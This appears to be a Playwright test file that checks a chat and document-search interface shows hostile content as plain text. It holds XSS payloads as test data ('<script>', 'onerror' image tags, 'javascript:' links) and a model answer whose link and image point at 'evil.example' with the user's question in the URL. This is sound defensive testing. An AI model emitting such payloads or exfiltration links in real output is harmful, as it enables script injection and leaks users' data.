"""The text of documents and models is shown, and never executed."""

from __future__ import annotations

import json
from typing import Any

from playwright.sync_api import Locator, Route, expect

from testing.builders import REPOSITORY
from testing.model_server import ModelServer, Script
from tests.browser.conftest import Upload
from tests.browser.garden import HACK
from tests.browser.visit import CHAT, Visit

HEMLOCK = "Where does the hemlock grow?"
HOSTILE: list[dict[str, Any]] = [
    attack
    for attack in json.loads((REPOSITORY / "app/ui/tests/hostile.json").read_text(encoding="utf-8"))
    if "markdown" in attack
]
"""The Markdown of the interface's own tests; the very long texts among them have no place in a browser."""
# Everything that is made of a text, its name or its place has these elements and attributes, and no others.
_HARMLESS = """(root) => {
  const elements = "a article b bdi blockquote br button code del details div em h2 h3 h4 h5 h6 hr li mark meter ol p "
    + "pre q section span strong summary table tbody td th thead tr ul";
  const attributes = "class href target rel lang dir title start scope role id type tabindex open min max value "
    + "aria-label aria-hidden aria-description aria-busy aria-live aria-pressed "
    + "data-state data-mode data-outcome data-severity data-reason data-id data-kind";
  const allowed = { elements: new Set(elements.split(" ")), attributes: new Set(attributes.split(" ")) };
  const found = [];
  for (const element of root.querySelectorAll("*")) {
    // The interface's own signs.
    if (element.closest("svg")?.closest("button, a") && !element.closest(".prose, .name, .place")) continue;
    if (!allowed.elements.has(element.localName)) found.push(`<${element.localName}>`);
    for (const { name, value } of element.attributes) {
      if (!allowed.attributes.has(name)) found.push(`${element.localName} ${name}="${value}"`);
    }
    const { protocol, host } = element;
    if (element.localName === "a" && !["http:", "https:", "mailto:"].includes(protocol)) found.push(element.outerHTML);
  }
  return found;
}"""


def expect_harmless(visit: Visit, *parts: Locator) -> None:
    """Expect nothing but harmless elements and attributes, and that nothing was executed.

    The fixture of the visit fails for a request to another host, for a dialog, and for a violation of the
    Content-Security-Policy.
    """
    for part in (visit.page.locator(".conversation"), *parts):
        assert part.evaluate(_HARMLESS) == []
    assert visit.page.evaluate("window.hacked") is None


def test_a_hostile_document_is_shown_as_it_was_written(visit: Visit) -> None:
    answer = visit.ask(HEMLOCK)
    expect(answer.shown.locator(".prose")).to_contain_text(f"<script>{HACK}</script>")
    expect(answer.shown.locator(".source .name").first).to_contain_text(f"<script>{HACK}</script> Poisonous plants")
    panel = visit.open_first_marker(answer)
    expect(panel.get_by_role("heading", level=2)).to_contain_text(f"<script>{HACK}</script>")
    expect(panel.locator("mark", has_text=f"<img src=x onerror={HACK}>").first).to_be_visible()
    expect_harmless(visit, panel)


def test_a_document_of_hostile_markdown_is_shown_without_its_acts(visit: Visit, upload: Upload) -> None:
    # A file with NUL is not read as a text.
    attacks = [attack["markdown"].replace("\0", "") for attack in HOSTILE if not is_open(attack)]
    upload(
        "hostile.md",
        "# Nightshade\n\nThe bed of nightshade at the east wall is 7 metres long.\n\n" + "\n\n".join(attacks),
    )
    panel = visit.open_first_marker(visit.ask("How long is the bed of nightshade at the east wall?"))
    expect(panel.locator("mark").first).to_contain_text("nightshade")
    expect(panel.locator(".prose")).to_contain_text(HACK)
    expect_harmless(visit, panel)


def is_open(attack: dict[str, Any]) -> bool:
    """Say whether the Markdown goes on in whatever is written after it."""
    markdown: str = attack["markdown"]
    return "```" in markdown or "~~~" in markdown or "<!--" in markdown or ("[" not in markdown and ">" not in markdown)


def test_hostile_markdown_in_answers_is_shown_without_its_acts(generated_visit: Visit, model: ModelServer) -> None:
    together = "\n\n".join(attack["markdown"] for attack in HOSTILE if not is_open(attack))
    answers = [together, *(attack["markdown"] for attack in HOSTILE if is_open(attack))]
    for number, markdown in enumerate(answers):
        model.script = Script(pieces=tuple(markdown[at : at + 7] for at in range(0, len(markdown), 7)))
        generated_visit.ask(f"{HEMLOCK} {number}")
    expect(generated_visit.page.locator(".exchange")).to_have_count(len(answers))
    expect_harmless(generated_visit)


def test_hostile_names_places_and_addresses_of_documents_are_shown_as_text(visit: Visit) -> None:
    """In the answer of a service whose documents have them, since no file system has such names."""
    attacks = [attack["markdown"] for attack in HOSTILE]
    hit = {"text": "The hemlock.", "score": 0.5, "page": None, "start": 0, "end": 12}
    passages = [
        hit
        | {"index": index, "chunk_id": f"chunk-{index}", "document_id": f"hemlock-{index}"}
        | {"document_name": attack, "section": attack, "url": f"javascript:{HACK}//{index}"}
        for index, attack in enumerate(attacks, 1)
    ]
    text = f"Hemlock [1] [{len(attacks)}]."
    chunks: list[dict[str, Any]] = [
        {
            "choices": [{"index": 0, "delta": {"content": text}, "finish_reason": None}],
            "groundwork": {"mode": "extractive", "passages": passages},
        },
        {
            "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}],
            "groundwork": {"kind": "answer", "citations": passages},
        },
    ]
    stream = "".join(f"data: {json.dumps(chunk)}\n\n" for chunk in chunks) + "data: [DONE]\n\n"
    visit.page.route(f"**{CHAT}", lambda route: route.fulfill(body=stream, content_type="text/event-stream"))
    visit.page.route("**/v1/documents/**", lambda route: give_document(route, attacks))
    visit.type_and_send(HEMLOCK)
    sources = visit.wait_for_end().locator(".source")
    expect(sources).to_have_count(len(attacks))
    expect_harmless(visit)
    for source, attack in list(zip(sources.all(), attacks, strict=True))[::10]:
        source.click()
        title = visit.sheet.get_by_role("heading", level=2)
        assert " ".join((title.text_content() or "").split()) == " ".join(attack.split())
        expect(visit.sheet.locator("mark").first).to_be_visible()
        expect(visit.sheet.locator(".head a")).to_have_count(0)
        expect_harmless(visit, visit.sheet)


def give_document(route: Route, attacks: list[str]) -> None:
    """Answer with a document whose name, headings and links are hostile."""
    headings = "\n\n".join(f"## {' '.join(attack.split())}" for attack in attacks)
    document: dict[str, Any] = {
        "id": "hemlock",
        "name": attacks[0],
        "source": "corpus",
        "url": f"javascript:{HACK}",
        "same_as": None,
    }
    text: dict[str, Any] = {
        "text": f"The hemlock.\n\n{headings}",
        "format": "markdown",
        "original": None,
        "page_starts": [],
    }
    route.fulfill(json=document | text | {"left_out": [], "content_hash": ""})


def test_a_hostile_question_is_shown_as_it_was_written(visit: Visit) -> None:
    question = f"<img src=x onerror={HACK}> Where does the hemlock grow?"
    answer = visit.ask(question)
    expect(answer.exchange.locator(".asked")).to_have_text(f"You asked: {question}")
    expect_harmless(visit)


def test_a_hostile_message_of_the_service_is_shown_as_it_was_written(visit: Visit) -> None:
    visit.expected_failures.add(CHAT)
    error = {"error": {"message": f"<img src=x onerror={HACK}>", "code": "invalid_request"}}
    visit.page.route(f"**{CHAT}", lambda route: route.fulfill(status=400, json=error))
    visit.question_box.fill(HEMLOCK)
    visit.question_box.press("Enter")
    expect(visit.last_answer.locator(".said")).to_contain_text(f"<img src=x onerror={HACK}>")
    expect_harmless(visit)


def test_a_link_opens_in_a_new_tab_without_a_referrer(generated_visit: Visit, model: ModelServer) -> None:
    model.script = Script(pieces=("See [the map](https://garden.example/map?x=1) [1].",))
    link = generated_visit.ask("When does the garden open, and where is the map?").shown.locator(".prose a")
    expect(link).to_have_attribute("href", "https://garden.example/map?x=1")
    expect(link).to_have_attribute("target", "_blank")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")


def test_an_address_that_no_source_has_is_no_link_and_no_image_is_loaded(
    generated_visit: Visit, model: ModelServer
) -> None:
    foreign = "https://evil.example/?said=Where+does+the+hemlock+grow"
    model.script = Script(pieces=(f"See [the map]({foreign}), ![a]({foreign}) or {foreign} [1].",))
    prose = generated_visit.ask(HEMLOCK).shown.locator(".prose")
    expect(prose).to_contain_text(f"the map ({foreign})")
    expect(prose.locator("a, img")).to_have_count(0)
    expect_harmless(generated_visit)
